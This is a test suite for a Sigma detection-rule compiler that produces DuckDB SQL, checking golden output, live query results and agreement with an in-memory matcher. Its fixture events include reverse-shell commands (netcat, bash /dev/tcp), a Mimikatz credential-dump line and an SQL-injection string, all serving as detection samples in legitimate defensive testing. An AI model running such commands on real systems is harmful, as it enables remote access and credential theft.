// Tests of the Sigma → DuckDB SQL compiler: golden SQL, execution on a real in-memory DuckDB, and agreement with the in-memory matcher.
// Never skips: a missing corpus or a missing compiler module fails the test that needs it.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { DuckDBInstance } from '@duckdb/node-api';
import type { DuckDBConnection } from '@duckdb/node-api';
import { parse as parseYaml } from 'yaml';
import { corpusPath, repoRoot, seededRandom } from '@vigil/common';
import { categoryByName } from '@vigil/schema';
import { createTableSql, eventTables, eventsViewSql } from '@vigil/store/duckdb/ddl';
import type {
  CompiledRule,
  DetectEvent,
  FieldAccessor,
  FieldResolver,
  LoadProblem,
  Logsource,
  LogsourceRoute,
  LogsourceRouter,
  SigmaCondition,
  SigmaFieldItem,
  SigmaRule,
  SigmaScalar,
  SigmaSearch,
} from '../core.js';
import { sigmaRuleToSql } from './to-sql.js';
import type { SqlQuery } from './to-sql.js';

const goldenDirectory = join(repoRoot(), 'packages/detect/src/sigma/testdata/sql');
const here = dirname(fileURLToPath(import.meta.url));

// ---- a small test mapping (the real one is packages/detect/src/mapping) ----

const mappedFields: Record<string, string> = {
  Image: 'process.executable',
  CommandLine: 'process.command_line',
  ParentImage: 'process.parent.executable',
  CurrentDirectory: 'process.working_directory',
  User: 'user.name',
  EventID: 'winlog.event_id',
  DestinationIp: 'destination.ip',
  DestinationPort: 'destination.port',
  TargetFilename: 'file.path',
};
const rawOnlyWindowsFields = new Set(['TargetUserName']);

function columnAccessor(column: string): FieldAccessor {
  return { key: column, sql: `"${column}"`, get: (event) => event[column] };
}

const testResolver: FieldResolver = {
  resolve(field: string, logsource: Logsource): FieldAccessor | undefined {
    const mapped = mappedFields[field];
    const windows = logsource.product === 'windows';
    if (windows && (mapped !== undefined || rawOnlyWindowsFields.has(field))) {
      const raw = `json_extract_string("winlog.event_data", '$."${field}"')`;
      const fallback = mapped === undefined ? undefined : mapped === 'winlog.event_id' ? `CAST("${mapped}" AS VARCHAR)` : `"${mapped}"`;
      return {
        key: `raw:${field}`,
        sql: fallback === undefined ? raw : `coalesce(${raw}, ${fallback})`,
        get: (event) => (event['winlog.event_data'] as Record<string, unknown> | undefined)?.[field] ?? (mapped === undefined ? undefined : event[mapped]),
      };
    }
    if (mapped !== undefined) return columnAccessor(mapped);
    if (field.includes('.')) return columnAccessor(field);
    return undefined;
  },
  keywordFields: () => [columnAccessor('process.command_line'), columnAccessor('message'), columnAccessor('process.args')],
};

const testRouter: LogsourceRouter = {
  route(logsource: Logsource): LogsourceRoute | undefined {
    if (logsource.product === 'macos') return undefined;
    if (logsource.service === 'security') return { conditions: [{ field: 'winlog.channel', anyOf: ['Security'] }] };
    if (logsource.category === 'process_creation') return { categories: ['process'], conditions: [{ field: 'event.action', anyOf: ['start'] }] };
    if (logsource.category === 'network_connection') return { categories: ['network'], conditions: [] };
    if (logsource.category === 'process_or_file') return { categories: ['process', 'file'], conditions: [] };
    return undefined;
  },
};

// ---- a minimal rule reader for the golden inputs (the real parser is parse.ts) ----

const origin = { file: 'test', line: 1, column: 1 };

function toScalars(value: unknown): SigmaScalar[] {
  const list = Array.isArray(value) ? value : [value];
  return list.map((item) => (item === null || typeof item === 'string' || typeof item === 'number' || typeof item === 'boolean' ? item : String(item)));
}

function readItems(map: Record<string, unknown>): SigmaFieldItem[] {
  return Object.entries(map).map(([key, value]) => {
    const [field = '', ...modifiers] = key.split('|');
    return { field: field === '' ? null : field, modifiers: modifiers.map((m) => m.toLowerCase()), values: toScalars(value), location: origin };
  });
}

function readSearch(value: unknown): SigmaSearch {
  if (Array.isArray(value) && value.every((item) => item === null || typeof item !== 'object')) {
    return { kind: 'keywords', values: toScalars(value), modifiers: [], location: origin };
  }
  const maps = (Array.isArray(value) ? value : [value]) as Record<string, unknown>[];
  return { kind: 'map', alternatives: maps.map(readItems), location: origin };
}

function parseCondition(text: string): SigmaCondition {
  const tokens = text.match(/\(|\)|[^\s()]+/g) ?? [];
  let position = 0;
  const peek = (): string | undefined => tokens[position];
  const next = (): string => tokens[position++] ?? '';
  const parseOr = (): SigmaCondition => {
    const operands = [parseAnd()];
    while (peek() === 'or') {
      next();
      operands.push(parseAnd());
    }
    return operands.length === 1 ? (operands[0] as SigmaCondition) : { kind: 'or', operands };
  };
  const parseAnd = (): SigmaCondition => {
    const operands = [parseNot()];
    while (peek() === 'and') {
      next();
      operands.push(parseNot());
    }
    return operands.length === 1 ? (operands[0] as SigmaCondition) : { kind: 'and', operands };
  };
  const parseNot = (): SigmaCondition => {
    const token = next();
    if (token === 'not') return { kind: 'not', operand: parseNot() };
    if (token === '(') {
      const inner = parseOr();
      next();
      return inner;
    }
    if ((token === '1' || token === 'all' || token === 'any') && peek() === 'of') {
      next();
      return { kind: 'of', quantifier: token === 'all' ? 'all' : 'one', pattern: next(), location: origin };
    }
    return { kind: 'search', name: token, location: origin };
  };
  return parseOr();
}

function readTestRule(text: string, file: string): SigmaRule {
  const document = parseYaml(text) as Record<string, unknown>;
  const detection = document['detection'] as Record<string, unknown>;
  const searches = new Map<string, SigmaSearch>();
  for (const [name, value] of Object.entries(detection)) if (name !== 'condition') searches.set(name, readSearch(value));
  return {
    kind: 'detection',
    file,
    location: origin,
    id: file,
    title: String(document['title']),
    level: 'medium',
    tags: [],
    references: [],
    falsepositives: [],
    logsource: document['logsource'] as Logsource,
    searches,
    condition: parseCondition(String(detection['condition'])),
    fields: (document['fields'] as string[] | undefined) ?? [],
  };
}

const testPlaceholders = { admins: ['root', 'adm*'] };

function compileGolden(name: string): { query?: SqlQuery; problems: LoadProblem[] } {
  const text = readFileSync(join(goldenDirectory, `${name}.in.yml`), 'utf8');
  return sigmaRuleToSql(readTestRule(text, name), { resolver: testResolver, router: testRouter, placeholders: testPlaceholders });
}

function renderGolden(result: { query?: SqlQuery; problems: LoadProblem[] }): string {
  const lines = result.problems.map((problem) => `-- ${problem.severity} ${problem.code}: ${problem.message}`);
  if (!result.query) return [...lines, '-- no query', ''].join('\n');
  return [...lines, `-- params: ${JSON.stringify(result.query.params)}`, result.query.sql, ''].join('\n');
}

const goldenNames = readdirSync(goldenDirectory)
  .filter((file) => file.endsWith('.in.yml'))
  .map((file) => file.slice(0, -'.in.yml'.length))
  .sort();

test('golden: each rule compiles to the expected SQL and parameters (VIGIL_UPDATE_GOLDEN=1 rewrites)', () => {
  assert.ok(goldenNames.length >= 25, `expected at least 25 golden rules, found ${goldenNames.length}`);
  for (const name of goldenNames) {
    const actual = renderGolden(compileGolden(name));
    const outPath = join(goldenDirectory, `${name}.out.sql`);
    if (process.env['VIGIL_UPDATE_GOLDEN'] === '1') writeFileSync(outPath, actual);
    assert.ok(existsSync(outPath), `missing golden output ${outPath}`);
    assert.equal(actual, readFileSync(outPath, 'utf8'), `golden ${name}`);
  }
});

test('values from rules are bound, never spliced into the SQL text', () => {
  const rule = readTestRule(
    `title: t\nlogsource: { product: linux, category: process_creation }\ndetection:\n  s:\n    CommandLine|contains: "x'; DROP TABLE events_process; --"\n  condition: s\n`,
    'injection',
  );
  const { query } = sigmaRuleToSql(rule, { resolver: testResolver, router: testRouter });
  assert.ok(query);
  assert.ok(!query.sql.includes('DROP TABLE'));
  assert.ok(query.params.includes("%x'; drop table events\\_process; --%"));
});

// ---- execution on a real DuckDB ----

async function openDatabase(): Promise<DuckDBConnection> {
  const instance = await DuckDBInstance.create(':memory:');
  const connection = await instance.connect();
  for (const spec of eventTables) await connection.run(createTableSql(spec));
  await connection.run(eventsViewSql());
  return connection;
}

const tableSpecByCategory = new Map(eventTables.map((spec) => [spec.table.slice('events_'.length), spec]));

async function insertEvents(connection: DuckDBConnection, events: readonly DetectEvent[]): Promise<void> {
  const byTable = new Map<string, DetectEvent[]>();
  for (const event of events) {
    const category = String(event['event.category']);
    const list = byTable.get(category) ?? [];
    list.push(event);
    byTable.set(category, list);
  }
  for (const [category, rows] of byTable) {
    const spec = tableSpecByCategory.get(category);
    assert.ok(spec, `no table for category ${category}`);
    const typeOf = new Map(spec.fields.map((field) => [field.name, field.type]));
    const columns = [...new Set(rows.flatMap((row) => Object.keys(row)))];
    for (const column of columns) assert.ok(typeOf.has(column), `field ${column} is not a column of ${spec.table}`);
    for (let first = 0; first < rows.length; first += 200) {
      const params: (string | number | boolean)[] = [];
      const tuples = rows.slice(first, first + 200).map((row) => {
        const cells = ['event.ingested', ...columns].map((name) => {
          const type = typeOf.get(name) as string;
          const value = name === 'event.ingested' ? row['@timestamp'] : row[name];
          if (value === undefined || value === null) return 'NULL';
          params.push(type === 'object' || type.endsWith('[]') ? JSON.stringify(value) : (value as string | number | boolean));
          const placeholder = `$${params.length}`;
          if (type === 'object') return `CAST(${placeholder} AS JSON)`;
          if (type.endsWith('[]')) return `CAST(CAST(${placeholder} AS JSON) AS VARCHAR[])`;
          if (type === 'date') return `CAST(${placeholder} AS TIMESTAMP)`;
          return `CAST(${placeholder} AS ${type === 'long' ? 'BIGINT' : type === 'integer' ? 'INTEGER' : type === 'boolean' ? 'BOOLEAN' : 'VARCHAR'})`;
        });
        return `(${cells.join(', ')})`;
      });
      const columnList = ['event.ingested', ...columns].map((name) => `"${name}"`).join(', ');
      await connection.run(`INSERT INTO "${spec.table}" (${columnList}) VALUES ${tuples.join(', ')}`, params);
    }
  }
}

async function runQuery(connection: DuckDBConnection, query: SqlQuery): Promise<string[]> {
  const reader = await connection.runAndReadAll(query.sql, query.params);
  return reader.getRowObjectsJson().map((row) => String(row['event.id']));
}

let sequence = 0;
function makeEvent(id: string, category: string, action: string, fields: Record<string, unknown>, hostId = 'host-a', minute = 0): DetectEvent {
  sequence += 1;
  const base: Record<string, unknown> = {
    '@timestamp': `2026-03-01T10:${String(minute).padStart(2, '0')}:00.000Z`,
    'event.id': id,
    'event.sequence': sequence,
    'event.category': category,
    'event.action': action,
    'host.id': hostId,
  };
  if (category === 'process') base['process.pid'] = sequence;
  return { ...base, ...fields };
}

const handMadeEvents: DetectEvent[] = [
  makeEvent('p-curl', 'process', 'start', { 'process.executable': '/usr/bin/curl', 'process.command_line': 'curl http://x', 'user.name': 'root', 'process.working_directory': '/tmp/x', 'process.args': ['curl', 'http://x'], 'process.interactive': true }),
  makeEvent('p-nc', 'process', 'start', { 'process.executable': '/bin/nc', 'process.parent.executable': '/bin/nc', 'process.command_line': 'nc 10.0.0.1 4444 -e /bin/sh', 'user.name': 'alice', 'process.working_directory': '/tmp', 'process.args': ['nc', '--inject'] }, 'host-b', 5),
  makeEvent('p-bash', 'process', 'start', { 'process.executable': '/bin/bash', 'process.command_line': 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'user.name': 'bob', 'process.working_directory': '/home/bob' }, 'host-a', 10),
  makeEvent('p-python', 'process', 'start', { 'process.executable': '/usr/bin/python3', 'process.command_line': "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", 'process.working_directory': '/home/bob' }),
  makeEvent('p-echo', 'process', 'start', { 'process.executable': '/usr/bin/echo', 'process.command_line': 'echo SeCrEt\nmultiline done', 'user.name': '', 'process.working_directory': '/usr' }),
  makeEvent('p-exit', 'process', 'exit', { 'process.executable': '/bin/nc', 'process.command_line': 'nc -e x' }),
  makeEvent('p-dd', 'process', 'start', { 'process.executable': '/usr/bin/dd', 'process.command_line': 'dd if=/dev/zero of=/tmp/x', 'user.name': 'admin', 'process.working_directory': '/tmp' }),
  makeEvent('p-mimi', 'process', 'start', { 'process.executable': '/opt/mimi', 'process.command_line': 'mimi SEKURLSA::logonpasswords', 'user.name': 'eve', message: 'launched MIMIKATZ' }),
  makeEvent('w-cmd', 'process', 'start', {
    'process.executable': 'C:\\Windows\\System32\\cmd1.exe',
    'process.command_line': 'echo *literal? 100%_done\\anything',
    'winlog.event_id': 4688,
    'winlog.event_data': { Image: 'C:\\Windows\\System32\\cmd1.exe', CommandLine: 'echo *literal? 100%_done\\anything' },
  }),
  makeEvent('w-cmd-wildcard-only', 'process', 'start', { 'process.executable': 'C:\\Windows\\System32\\cmdX.exe', 'process.command_line': 'echo XliteralY 100%_done\\' }),
  makeEvent('w-b64', 'process', 'start', { 'process.command_line': 'powershell -enc aHR0cDovLw==', 'winlog.event_id': 1, 'process.interactive': false }),
  makeEvent('w-b64offset', 'process', 'start', { 'process.command_line': 'powershell -enc ' + Buffer.from('xxIEXyy').toString('base64') }),
  makeEvent('w-wide', 'process', 'start', { 'process.command_line': 'powershell -e ' + Buffer.from('Xping 8.8.8.8', 'utf16le').toString('base64') }),
  makeEvent('w-be', 'process', 'start', { 'process.command_line': Buffer.from('ab', 'utf16le').swap16().toString('base64') }),
  makeEvent('w-windash', 'process', 'start', { 'process.command_line': 'tool \u2013enc abc' }),
  makeEvent('w-windash-slash', 'process', 'start', { 'process.command_line': 'tool /enc abc' }),
  makeEvent('w-nodash', 'process', 'start', { 'process.command_line': 'tool xenc abc' }),
  makeEvent('w-4720', 'iam', 'user_created', { 'winlog.channel': 'Security', 'winlog.event_id': 4720, 'winlog.event_data': { TargetUserName: 'EVIL$' } }),
  makeEvent('w-4720-normal', 'iam', 'user_created', { 'winlog.channel': 'Security', 'winlog.event_id': 4720, 'winlog.event_data': { TargetUserName: 'carol' } }),
  makeEvent('w-4720-other-channel', 'iam', 'user_created', { 'winlog.channel': 'System', 'winlog.event_id': 4720, 'winlog.event_data': { TargetUserName: 'x$' } }),
  makeEvent('n-10', 'network', 'connect', { 'destination.ip': '10.1.2.3', 'destination.port': 4444 }),
  makeEvent('n-192', 'network', 'connect', { 'destination.ip': '192.168.1.77', 'destination.port': 22 }),
  makeEvent('n-192-other', 'network', 'connect', { 'destination.ip': '192.168.2.1', 'destination.port': 1500 }),
  makeEvent('n-fe80', 'network', 'connect', { 'destination.ip': 'FE80::1', 'destination.port': 65000 }),
  makeEvent('n-fe80-full', 'network', 'connect', { 'destination.ip': 'febf:ffff:0:0:0:0:0:1', 'destination.port': 80 }),
  makeEvent('n-2001', 'network', 'connect', { 'destination.ip': '2001:db8::1', 'destination.port': 443 }),
  makeEvent('n-bad', 'network', 'connect', { 'destination.ip': '10.1.2.300', 'destination.port': 3000 }),
  makeEvent('f-sda', 'file', 'create', { 'file.path': '/dev/sda1' }),
  makeEvent('f-other', 'file', 'create', { 'file.path': '/etc/passwd' }),
];

const expectedIds: Record<string, string[]> = {
  'all-of-them': ['p-nc'],
  base64: ['w-b64'],
  base64offset: ['w-b64offset'],
  cased: ['p-echo'],
  'cidr-v4': ['n-10', 'n-192'],
  'cidr-v6': ['n-fe80', 'n-fe80-full'],
  conditions: ['p-bash', 'p-curl'],
  'contains-all': ['p-nc'],
  'contains-list-or': ['p-curl'],
  'equals-case-insensitive': ['p-curl'],
  exists: ['p-python'],
  expand: ['p-curl', 'p-dd'],
  fieldref: ['p-dd', 'p-nc'],
  keywords: ['p-mimi'],
  'keywords-all': ['p-python'],
  'list-column': ['p-nc'],
  'null-value': ['p-python', 'p-echo', 'w-cmd', 'w-cmd-wildcard-only', 'w-b64', 'w-b64offset', 'w-wide', 'w-be', 'w-windash', 'w-windash-slash', 'w-nodash'],
  'number-and-boolean': [],
  'numeric-compare': ['n-192', 'n-192-other', 'n-10', 'n-fe80', 'n-bad'],
  'one-of-pattern': ['p-nc'],
  'regex-flags': ['p-bash', 'p-echo'],
  'regex-lookahead': [],
  'regex-named-group': ['p-nc'],
  'several-tables': ['p-dd', 'f-sda'],
  'startswith-endswith': ['p-nc'],
  'unknown-field': ['p-nc'],
  'unsupported-logsource': [],
  'utf16be-utf16': ['w-be'],
  'wide-base64offset': ['w-wide'],
  windash: ['w-b64', 'w-b64offset', 'w-windash', 'w-windash-slash'],
  'wildcards-escapes': ['w-cmd'],
  'windows-raw-field': ['w-4720'],
};

test('execution: every golden rule runs on DuckDB with the real DDL and returns the expected events', async () => {
  const connection = await openDatabase();
  await insertEvents(connection, handMadeEvents);
  const mismatches: string[] = [];
  for (const name of goldenNames) {
    const expected = expectedIds[name];
    assert.ok(expected, `no expected ids for golden ${name}`);
    const { query } = compileGolden(name);
    const actual = query ? await runQuery(connection, query) : [];
    const [actualText, expectedText] = [[...actual].sort().join(','), [...expected].sort().join(',')];
    if (actualText !== expectedText) mismatches.push(`${name}: got [${actualText}], expected [${expectedText}]`);
  }
  assert.deepEqual(mismatches, []);
});

test('execution: time range, host filter and limit narrow the result', async () => {
  const connection = await openDatabase();
  await insertEvents(connection, handMadeEvents);
  const rule = readTestRule(`title: t\nlogsource: { product: linux, category: process_creation }\ndetection:\n  s:\n    Image|endswith: sh\n  condition: s\n`, 'time');
  const options = { resolver: testResolver, router: testRouter };
  const all = sigmaRuleToSql(rule, options).query;
  assert.ok(all);
  assert.deepEqual(await runQuery(connection, all), ['p-bash']);
  const range = sigmaRuleToSql(readTestRule(`title: t\nlogsource: { product: linux, category: process_creation }\ndetection:\n  s:\n    Image|startswith: /\n  condition: s\n`, 'r'), {
    ...options,
    start: '2026-03-01T10:05:00Z',
    end: '2026-03-01T10:10:00Z',
  }).query;
  assert.ok(range);
  assert.deepEqual(await runQuery(connection, range), ['p-nc']);
  const hosts = sigmaRuleToSql(readTestRule(`title: t\nlogsource: { product: linux, category: process_creation }\ndetection:\n  s:\n    Image|startswith: /\n  condition: s\n`, 'h'), { ...options, hostIds: ['host-b'], limit: 5 }).query;
  assert.ok(hosts);
  assert.deepEqual(await runQuery(connection, hosts), ['p-nc']);
  const limited = sigmaRuleToSql(readTestRule(`title: t\nlogsource: { product: linux, category: process_creation }\ndetection:\n  s:\n    Image|startswith: /\n  condition: s\n`, 'l'), { ...options, limit: 2 }).query;
  assert.ok(limited);
  assert.equal((await runQuery(connection, limited)).length, 2);
});

// ---- differential: SQL results equal the in-memory matcher's, event by event, on corpus rules ----

interface SigmaModule {
  readRuleSources(path: string): { file: string; text: string }[];
  parseSigmaFile(source: { file: string; text: string }): { rules: SigmaRule[]; problems: LoadProblem[] };
  compileSigmaRule(rule: SigmaRule, options: { resolver: FieldResolver; router: LogsourceRouter }): { compiled?: CompiledRule; problems: LoadProblem[] };
}
interface MappingModule {
  defaultSigmaMapping(): { resolver: FieldResolver; router: LogsourceRouter };
}

/** A concrete string that a Sigma pattern value matches (wildcards filled, escapes resolved). */
function sampleText(value: string, random: () => number): string {
  let text = '';
  for (let index = 0; index < value.length; index += 1) {
    const character = value[index] as string;
    const next = value[index + 1];
    if (character === '\\' && (next === '*' || next === '?' || next === '\\')) {
      text += next;
      index += 1;
    } else if (character === '*') text += random() < 0.5 ? '' : 'zq';
    else if (character === '?') text += 'k';
    else text += character;
  }
  return random() < 0.3 ? text.toUpperCase() : text;
}

function sampleForItem(item: SigmaFieldItem, random: () => number): unknown {
  const value = item.values[Math.floor(random() * item.values.length)];
  const modifiers = item.modifiers;
  if (value === null || value === undefined) return random() < 0.5 ? '' : undefined;
  if (typeof value !== 'string') return random() < 0.5 ? value : String(value);
  if (modifiers.includes('cidr')) return value.split('/')[0];
  if (modifiers.some((m) => m === 'gt' || m === 'gte' || m === 'lt' || m === 'lte')) return Number(value) + (random() < 0.5 ? 1 : -1);
  if (modifiers.includes('re')) return value.replace(/[\\^$()[\]{}+*?|.]/g, '');
  let text = sampleText(value, random);
  if (modifiers.includes('windash') && random() < 0.5) text = text.replace(/(^|\s)-/g, '$1/');
  if (modifiers.includes('base64offset') || modifiers.includes('base64')) {
    const bytes = modifiers.includes('wide') || modifiers.includes('utf16le') ? Buffer.from(text, 'utf16le') : Buffer.from(text);
    const prefix = modifiers.includes('base64offset') ? ' '.repeat(Math.floor(random() * 3)) : '';
    text = Buffer.concat([Buffer.from(prefix), bytes]).toString('base64');
  }
  const contains = modifiers.includes('contains') || modifiers.includes('base64offset');
  const before = contains || modifiers.includes('endswith') ? (random() < 0.5 ? 'pre ' : '') : '';
  const after = contains || modifiers.includes('startswith') ? (random() < 0.5 ? ' post' : '') : '';
  return before + text + after;
}

const noiseValues = ['', 'C:\\Windows\\System32\\svchost.exe', '/usr/bin/ls -la', 'powershell.exe -nop -w hidden', '10.0.0.5', 'fe80::1', '42', 'NT AUTHORITY\\SYSTEM', '/tmp/a b'];

function vigilColumnOf(accessor: FieldAccessor): string | undefined {
  const names = [...accessor.sql.matchAll(/"((?:[^"]|"")+)"/g)].map((match) => (match[1] as string).replace(/""/g, '"'));
  return names.find((name) => name !== 'winlog.event_data' && categoryByName.get('process')?.fieldByName.has(name));
}

test('differential: SQL and in-memory matching agree on corpus process_creation rules', async () => {
  const sigmaPath = join(here, 'index.js');
  const mappingPath = join(here, '..', 'mapping', 'index.js');
  assert.ok(existsSync(sigmaPath), `the in-memory compiler ${sigmaPath} is not built yet`);
  assert.ok(existsSync(mappingPath), `the mapping ${mappingPath} is not built yet`);
  const sigma = (await import(sigmaPath)) as SigmaModule;
  const mapping = ((await import(mappingPath)) as MappingModule).defaultSigmaMapping();

  const started = Date.now();
  const rules: SigmaRule[] = [];
  // Every Linux rule and every second Windows rule keeps the run short while comparing several hundred rules.
  for (const [folder, step] of [['windows/process_creation', 2], ['linux/process_creation', 1]] as const) {
    const sources = sigma.readRuleSources(corpusPath('sigma', 'rules', folder)).filter((_, index) => index % step === 0);
    for (const source of sources) rules.push(...sigma.parseSigmaFile(source).rules);
  }
  const compiled: { rule: SigmaRule; compiled: CompiledRule; query: SqlQuery; sqlWarnings: LoadProblem[] }[] = [];
  for (const rule of rules) {
    if (rule.status === 'deprecated') continue;
    const inMemory = sigma.compileSigmaRule(rule, mapping).compiled;
    const sql = sigmaRuleToSql(rule, { ...mapping, limit: 1_000_000 });
    if (!inMemory || !sql.query || !inMemory.route) continue;
    compiled.push({ rule, compiled: inMemory, query: sql.query, sqlWarnings: sql.problems });
  }
  assert.ok(compiled.length >= 300, `only ${compiled.length} corpus rules compiled both ways`);

  const random = seededRandom(20260301);
  const events: DetectEvent[] = [];
  const processFields = categoryByName.get('process')?.fieldByName;
  assert.ok(processFields);
  for (let index = 0; index < 2400; index += 1) {
    const source = compiled[Math.floor(random() * compiled.length)] as (typeof compiled)[number];
    const windows = source.rule.logsource.product === 'windows';
    const fields: Record<string, unknown> = {};
    const raw: Record<string, unknown> = {};
    for (const condition of source.compiled.route?.conditions ?? []) {
      if (random() < 0.9 && processFields.has(condition.field)) fields[condition.field] = condition.anyOf[Math.floor(random() * condition.anyOf.length)];
    }
    for (const [name, search] of source.rule.searches) {
      if (search.kind !== 'map' || random() < (name.startsWith('filter') ? 0.7 : 0.15)) continue;
      const alternative = search.alternatives[Math.floor(random() * search.alternatives.length)] ?? [];
      for (const item of alternative) {
        if (item.field === null || random() < 0.1) continue;
        const value = random() < 0.1 ? noiseValues[Math.floor(random() * noiseValues.length)] : sampleForItem(item, random);
        if (value === undefined) continue;
        const accessor = mapping.resolver.resolve(item.field, source.rule.logsource);
        const column = accessor ? vigilColumnOf(accessor) : undefined;
        if (windows && (random() < 0.7 || column === undefined)) raw[item.field] = typeof value === 'number' ? String(value) : value;
        else if (column !== undefined) {
          const type = processFields.get(column)?.type;
          if (type === 'keyword[]') fields[column] = [String(value)];
          else if (type === 'long' || type === 'integer') {
            if (Number.isSafeInteger(Number(value)) && String(value).trim() !== '') fields[column] = Number(value);
          } else if (type === 'boolean') fields[column] = value === true || value === 'true';
          else if (type === 'keyword' || type === 'text' || type === 'ip') fields[column] = String(value);
        }
      }
    }
    if (windows && Object.keys(raw).length > 0) fields['winlog.event_data'] = raw;
    events.push(makeEvent(`g-${index}`, 'process', random() < 0.9 ? 'start' : 'exit', fields, random() < 0.5 ? 'host-a' : 'host-b', index % 60));
  }
  const loaded = Date.now();
  const connection = await openDatabase();
  await insertEvents(connection, events);
  const inserted = Date.now();

  let disagreements = 0;
  let regexDifferences = 0;
  let matchedPairs = 0;
  const report: string[] = [];
  const sqlResults = new Map<number, string[] | Error>();
  for (let first = 0; first < compiled.length; first += 25) {
    const batch = compiled.slice(first, first + 25);
    const params: (string | number | boolean)[] = [];
    const parts = batch.map((entry, offset) => {
      const shifted = entry.query.sql.replace(/\$(\d+)/g, (_, number: string) => `$${Number(number) + params.length}`);
      params.push(...entry.query.params);
      return `SELECT ${first + offset} AS rule_index, "event.id" AS id FROM (${shifted})`;
    });
    try {
      const rows = (await connection.runAndReadAll(parts.join('\nUNION ALL\n'), params)).getRowObjectsJson();
      for (let index = first; index < first + batch.length; index += 1) sqlResults.set(index, []);
      for (const row of rows) (sqlResults.get(Number(row['rule_index'])) as string[]).push(String(row['id']));
    } catch {
      for (const [offset, entry] of batch.entries()) {
        try {
          sqlResults.set(first + offset, await runQuery(connection, entry.query));
        } catch (error) {
          sqlResults.set(first + offset, error instanceof Error ? error : new Error(String(error)));
        }
      }
    }
  }
  const queried = Date.now();
  let rulesWithMatches = 0;
  for (const [index, entry] of compiled.entries()) {
    const categories = entry.compiled.route?.categories;
    const expected = events
      .filter((event) => (categories === undefined || categories.includes(String(event['event.category']))) && entry.compiled.match(event) !== null)
      .map((event) => String(event['event.id']))
      .sort();
    const result = sqlResults.get(index);
    if (!Array.isArray(result)) {
      disagreements += 1;
      report.push(`${entry.rule.file}: SQL failed: ${result?.message.split('\n')[0] ?? 'no result'}`);
      continue;
    }
    const actual = [...result].sort();
    matchedPairs += expected.length;
    if (expected.length > 0) rulesWithMatches += 1;
    const missing = expected.filter((id) => !actual.includes(id));
    const extra = actual.filter((id) => !expected.includes(id));
    if (missing.length === 0 && extra.length === 0) continue;
    if (entry.sqlWarnings.some((problem) => problem.code === 'regex_unsupported_in_sql')) {
      regexDifferences += 1;
      continue;
    }
    disagreements += 1;
    report.push(`${entry.rule.file}: in memory only ${missing.slice(0, 3).join(',')} (${missing.length}); SQL only ${extra.slice(0, 3).join(',')} (${extra.length})`);
  }
  console.log(`timing (not asserted): load ${loaded - started} ms, insert ${inserted - loaded} ms, SQL ${queried - inserted} ms, in memory ${Date.now() - queried} ms`);
  console.log(`differential: ${compiled.length} rules, ${events.length} events, ${matchedPairs} in-memory matches by ${rulesWithMatches} rules, ${disagreements} disagreements, ${regexDifferences} documented RE2 differences`);
  for (const line of report.slice(0, 40)) console.log(`  ${line}`);
  assert.equal(disagreements, 0, report.slice(0, 20).join('\n'));
});

test('differential: the golden rules give the same events in memory (compileSigmaRule) as in SQL', async () => {
  const sigmaPath = join(here, 'index.js');
  assert.ok(existsSync(sigmaPath), `the in-memory compiler ${sigmaPath} is not built yet`);
  const sigma = (await import(sigmaPath)) as SigmaModule;
  const connection = await openDatabase();
  await insertEvents(connection, handMadeEvents);
  const disagreements: string[] = [];
  for (const name of goldenNames) {
    const rule = readTestRule(readFileSync(join(goldenDirectory, `${name}.in.yml`), 'utf8'), name);
    const options = { resolver: testResolver, router: testRouter, placeholders: testPlaceholders };
    const compiled = sigma.compileSigmaRule(rule, options).compiled;
    const categories = compiled?.route?.categories;
    const inMemory = handMadeEvents
      .filter((event) => compiled?.route !== undefined && (categories === undefined || categories.includes(String(event['event.category']))) && compiled.match(event) !== null)
      .map((event) => String(event['event.id']))
      .sort();
    const query = sigmaRuleToSql(rule, options).query;
    const inSql = query ? (await runQuery(connection, query)).sort() : [];
    if (inMemory.join(',') !== inSql.join(',') && name !== 'regex-lookahead') disagreements.push(`${name}: in memory [${inMemory.join(',')}], SQL [${inSql.join(',')}]`);
  }
  assert.deepEqual(disagreements, []);
});
